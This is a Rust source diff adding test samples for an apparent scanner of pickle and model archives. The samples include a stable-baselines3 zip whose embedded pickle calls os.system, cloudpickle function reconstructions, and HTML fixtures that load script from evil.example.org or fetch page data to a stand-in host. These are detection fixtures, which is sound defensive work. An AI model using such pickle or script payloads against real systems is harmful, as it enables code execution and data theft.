@@ -3,9 +3,11 @@
 
 use std::collections::BTreeMap;
 
+use base64ct::{Base64, Encoding};
+
 use super::{
     Adding, Level, Sample, adding,
-    made::{call, global, of, one, pickle, text, torch, zip},
+    made::{Zip, call, calling, global, of, one, pickle, text, torch, zip},
 };
 
 /// Names that files import which scikit-learn, scipy, pandas, statsmodels, gensim, boosters, torch and others wrote.
@@ -49,6 +51,8 @@ fn names(add: &mut Adding) {
 pub(crate) fn benign(samples: &mut Vec<Sample>) {
     let mut add = adding(samples, Level::Clean);
     names(&mut add);
+    let policy = pickle(global("stable_baselines3.common.policies", "ActorCriticPolicy"));
+    add("a class in a description", one("ppo.zip", baselines(&policy)));
     let method = pickle(attribute(global("builtins", "str"), "split"));
     add("a method of a text, kept", one("a.pkl", method));
     let vectorizer = [
@@ -141,6 +145,8 @@ fn of_bytes(files: &[(&str, &[u8])]) -> Vec<(String, Vec<u8>)> {
 }
 
 pub(crate) fn dangerous(samples: &mut Vec<Sample>) {
+    let evil = calling("os", "system", "true", 1);
+    adding(samples, Level::Dangerous)("a call in a description", one("ppo.zip", baselines(&evil)));
     let mut add = |name: &str, object: Vec<u8>| {
         let files = one("a.pkl", pickle(object));
         samples.push(Sample::owned(Level::Dangerous, name, files));
@@ -173,8 +179,26 @@ pub(crate) fn dangerous(samples: &mut Vec<Sample>) {
     add("what is private to a module", call(global("scipy.special", "__loader__"), &[text("os")]));
 }
 
+/// An archive of `stable-baselines3`, whose description holds this pickle.
+fn baselines(pickle: &[u8]) -> Vec<u8> {
+    let held = Base64::encode_string(pickle);
+    let data =
+        format!("{{\"policy_class\": {{\":type:\": \"abc\", \":serialized:\": \"{held}\"}}}}");
+    let mut archive = Zip::default();
+    archive.add("data", "data", data.as_bytes(), true);
+    archive.add("policy.pth", "policy.pth", &torch(b"\x80\x02}q\0."), true);
+    archive.done()
+}
+
 pub(crate) fn suspicious(samples: &mut Vec<Sample>) {
     let mut add = adding(samples, Level::Suspicious);
+    let code = call(global("cloudpickle.cloudpickle", "_builtin_type"), &[text("CodeType")]);
+    let made = call(
+        global("cloudpickle.cloudpickle", "_make_function"),
+        &[call(code, &[b"K\0".to_vec()]), b"}".to_vec()],
+    );
+    add("a function that is kept", one("a.pkl", pickle(made.clone())));
+    add("a function in a description", one("ppo.zip", baselines(&pickle(made))));
     for html in [
         "<script src='//evil.example.org/x.js'></script>",
         "<script>fetch('https://a.example.org/?' + document.title)</script>",
